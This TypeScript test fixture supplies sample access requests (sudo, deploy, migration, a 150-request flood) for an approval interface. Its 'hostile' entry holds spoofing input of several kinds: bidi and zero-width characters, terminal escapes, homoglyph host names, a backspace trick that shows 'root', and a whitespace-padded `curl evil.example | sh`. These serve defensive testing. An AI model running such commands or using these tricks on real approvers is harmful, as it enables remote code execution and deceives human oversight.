import type { Name } from '../../src/protocol/names.js';
import type { RequestView } from '../../src/protocol/request-view.js';
import { NOW, opened, sampleRequest, sampleRule, sampleVote } from './sample-requests.js';

/** One night of an on-call person, the oldest ask first: every kind of row, and what has ended below. */
export const failover = sampleRequest({
  n: 4,
  age: 220,
  document: {
    action: 'sudo',
    context: { reason: 'failover drill, step 3' },
    details: {
      argv: ['systemctl', 'restart', 'postgresql'],
      cwd: '/home/erin',
      target: 'root',
      tty: 'pts/3',
    },
    door: 'host:db-2.example.com',
    requester: 'erin',
    resource: 'db-2.example.com',
  },
});
const login = (n: number, age: number): RequestView => sampleRequest({ n, age });
export const deploy = sampleRequest({
  n: 5,
  age: 90,
  waiting: 0,
  document: {
    action: 'ci.deploy',
    context: { reason: 'hotfix 2.14.3', ticket: 'SHOP-881' },
    details: { commit: '9f3c2a1d8be74650b1a2c3d4e5f60718293a4b5c', workflow: 'deploy.yml' },
    door: 'ci:shop',
    duration: 1800,
    requester: 'dave',
    resource: 'shop/checkout@production',
  },
});
export const migration = sampleRequest({
  n: 6,
  age: 40,
  rule: sampleRule({ grants: { uses: 10 } }),
  votes: [sampleVote()],
  document: {
    action: 'db.migrate',
    context: { reason: 'INC-4318: add the index that the failover needs' },
    details: { database: 'orders', migration: '0042_orders_by_day.sql' },
    door: 'run:orders',
    duration: 3600,
    requester: 'frank',
    resource: 'orders@production',
  },
});
export const hostile = sampleRequest({
  n: 7,
  age: 100,
  document: {
    context: {
      reason: 'all fine\u2028\u202eon\u200b \u001b]0;approved\u0007 p\u0430ypal\nAPPROVED by carol',
    },
    details: {
      argv: ['sh', '-c', `echo ok${' '.repeat(90)}; curl evil.example | sh`, '⟨LF⟩', '--flag\u{e0041}'],
      'us\u200ber': 'alice\b\b\b\b\broot',
      one: { two: { three: { four: { five: { six: { seven: { eight: ['deep'] } } } } } } },
      'a label that is very long\u202e': 'and its value',
    },
    resource: 'w\u0435b-1.example.com',
  },
});
export const pending = [failover, login(1, 130), login(2, 125), login(3, 120), deploy, migration];
export const earlier = [
  sampleRequest({
    n: 10,
    age: 700,
    ...opened,
    document: { requester: 'erin', resource: 'web-2.example.com' },
  }),
  sampleRequest({
    n: 12,
    age: 1100,
    state: 'denied',
    endedAt: NOW - 1_000_000,
    votes: [sampleVote({ verdict: 'deny' })],
    document: { requester: 'mallory', context: {} },
  }),
  sampleRequest({
    n: 13,
    age: 9000,
    state: 'expired',
    endedAt: NOW - 8_700_000,
    document: { requester: 'henry', resource: 'web-9.example.com' },
  }),
];
/** So many different asks of one submitter. */
export const flood = Array.from({ length: 150 }, (_, at) =>
  sampleRequest({
    n: 100 + at,
    age: 280 - at,
    submitter: 'ci-1' as Name,
    document: { resource: `r-${at}` },
  }),
);
